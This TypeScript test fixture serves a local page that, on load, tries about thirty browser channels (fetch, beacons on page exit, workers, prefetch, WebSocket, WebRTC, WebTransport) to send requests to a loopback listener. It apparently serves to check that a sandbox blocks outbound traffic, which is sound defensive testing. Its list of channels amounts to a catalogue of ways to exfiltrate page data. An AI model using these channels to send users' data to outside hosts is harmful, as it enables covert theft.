import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { createServer as createListener } from 'node:net';

/** A page that tries every way out that browsers have, and whoever listens at the other end. */
export interface LeakingPage {
  /** Its address; `/away` leads to the listener. */
  readonly page: string;
  /** Where the page sends to: another port of loopback, TCP and UDP. */
  readonly other: string;
  /** What the listener heard, by the first words of each connection. */
  readonly heard: readonly string[];
  /** What the page's own server was asked to change. */
  readonly posted: readonly string[];
  close(): Promise<void>;
}

/** Each way out as a script of the page; `other` is the listener's origin, `port` its port. */
export const ways: Readonly<Record<string, string>> = {
  fetch: "fetch(other + '/fetch', { mode: 'no-cors' }).catch(() => {});",
  'fetch that sends':
    "fetch(other + '/post', { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => {});",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('POST', other + '/xhr'); x.send('x');",
  image: "new Image().src = other + '/image';",
  'image that is led away': "new Image().src = '/away';",
  'style sheet that is led away': "add('link', { rel: 'stylesheet', href: '/away' });",
  frame: "add('iframe', { src: other + '/frame' });",
  'frame that is led away': "add('iframe', { src: '/away' });",
  video: "add('video', { src: other + '/video' });",
  object: "add('object', { data: other + '/object' });",
  preload: "add('link', { rel: 'preload', as: 'script', href: other + '/preload' });",
  prefetch: "add('link', { rel: 'prefetch', href: other + '/prefetch' });",
  preconnect: "add('link', { rel: 'preconnect', href: other });",
  'DNS prefetch': "add('link', { rel: 'dns-prefetch', href: '//localhost:' + port });",
  'speculation rules':
    "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [other + '/rules'] }], prerender: [{ urls: [other + '/rules'] }] }) });",
  EventSource: "new EventSource(other + '/events');",
  WebSocket: "new WebSocket(other.replace('http', 'ws') + '/socket');",
  beacon: "navigator.sendBeacon(other + '/beacon', 'x');",
  'beacon when it is left': "addEventListener('pagehide', () => navigator.sendBeacon(other + '/left', 'x'));",
  'fetch when it is left':
    "addEventListener('pagehide', () => fetch(other + '/kept', { method: 'POST', keepalive: true, mode: 'no-cors', body: 'x' }));",
  'own server when it is left': "addEventListener('pagehide', () => navigator.sendBeacon('/own-left', 'x'));",
  popup: "open(other + '/popup');",
  'form in another tab':
    "const f = add('form', { action: other + '/form', method: 'post', target: '_blank' }); f.submit();",
  worker: 'work(\'fetch("\' + other + \'/worker", { mode: "no-cors" })\');',
  'script of a worker': "work('importScripts(\"' + other + '/script\")');",
  'WebSocket of a worker': "work('new WebSocket(\"' + other.replace('http', 'ws') + '/worker-socket\")');",
  'own server, by a worker':
    'work(\'fetch("\' + location.origin + \'/own-worker", { method: "POST", body: "x" })\');',
  'shared worker':
    "new SharedWorker(blob('fetch(\"' + other + '/shared\", { mode: \"no-cors\" }); new WebSocket(\"' + other.replace('http', 'ws') + '/shared-socket\")'));",
  'own server, by a shared worker':
    'new SharedWorker(blob(\'fetch("\' + location.origin + \'/own-shared", { method: "POST", body: "x" })\'));',
  'service worker': "navigator.serviceWorker.register('/worker.js').catch(() => {});",
  WebRTC: "peer('stun:127.0.0.1:' + port);",
  'WebRTC by TCP': "peer('turn:127.0.0.1:' + port + '?transport=tcp');",
  WebTransport: "new WebTransport('https://127.0.0.1:' + port + '/transport').ready.catch(() => {});",
  'in a frame of its own':
    "const inner = add('iframe', {}).contentWindow; inner.fetch(other + '/inner', { mode: 'no-cors' }).catch(() => {}); if (inner.SharedWorker) new inner.SharedWorker(blob('fetch(\"' + other + '/inner-shared\")'));",
};

/** Serves a page that tries all ways out as soon as it is opened, and has a form. */
export async function leakingPage(): Promise<LeakingPage> {
  const heard: string[] = [];
  const posted: string[] = [];
  const listener = createListener(socket => {
    heard.push('a connection');
    socket
      .on('error', () => {})
      .on('data', data => {
        heard.push(String(data).split('\r\n')[0] ?? '');
        socket.end('HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n');
      });
  }).listen(0, '127.0.0.1');
  await once(listener, 'listening');
  const port = portOf(listener.address());
  const udp = createSocket('udp4').bind(port, '127.0.0.1');
  udp.on('message', data => heard.push(`${data.length} bytes of UDP`));
  await once(udp, 'listening');
  const other = `http://127.0.0.1:${port}`;
  const html = pageOf(other, port);
  const site = createServer((request, response) => {
    if (request.method !== 'GET') posted.push(`${request.method} ${request.url}`);
    if (request.url === '/away') return response.writeHead(302, { location: `${other}/away` }).end();
    const type = request.url === '/worker.js' ? 'text/javascript' : 'text/html';
    return response.setHeader('content-type', type).end(type === 'text/html' ? html : '');
  }).listen(0, '127.0.0.1');
  await once(site, 'listening');
  return {
    page: `http://127.0.0.1:${portOf(site.address())}/`,
    ...{ other, heard, posted },
    async close() {
      udp.close();
      listener.close();
      site.closeAllConnections();
      await new Promise(resolve => site.close(resolve));
    },
  };
}

function portOf(address: ReturnType<ReturnType<typeof createListener>['address']>): number {
  return typeof address === 'object' && address !== null ? address.port : 0;
}

function pageOf(other: string, port: number): string {
  const tries = Object.values(ways).map(way => `try { ${way} } catch {}`);
  return `<!doctype html><title>Page</title><body>
    <form><input name="code"><input type="password"><button>Save</button></form>
    <script>
      const other = '${other}', port = ${port};
      const add = (name, members) => document.body.appendChild(Object.assign(document.createElement(name), members));
      const blob = text => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
      const work = text => new Worker(blob(text)).addEventListener('error', event => event.preventDefault());
      const peer = urls => {
        const connection = new RTCPeerConnection({ iceServers: [{ urls, username: 'u', credential: 'c' }] });
        connection.createDataChannel('way');
        connection.createOffer().then(offer => connection.setLocalDescription(offer)).catch(() => {});
      };
      ${tries.join('\n      ')}
      document.querySelector('form').addEventListener('submit', event => event.preventDefault());
    </script>`;
}
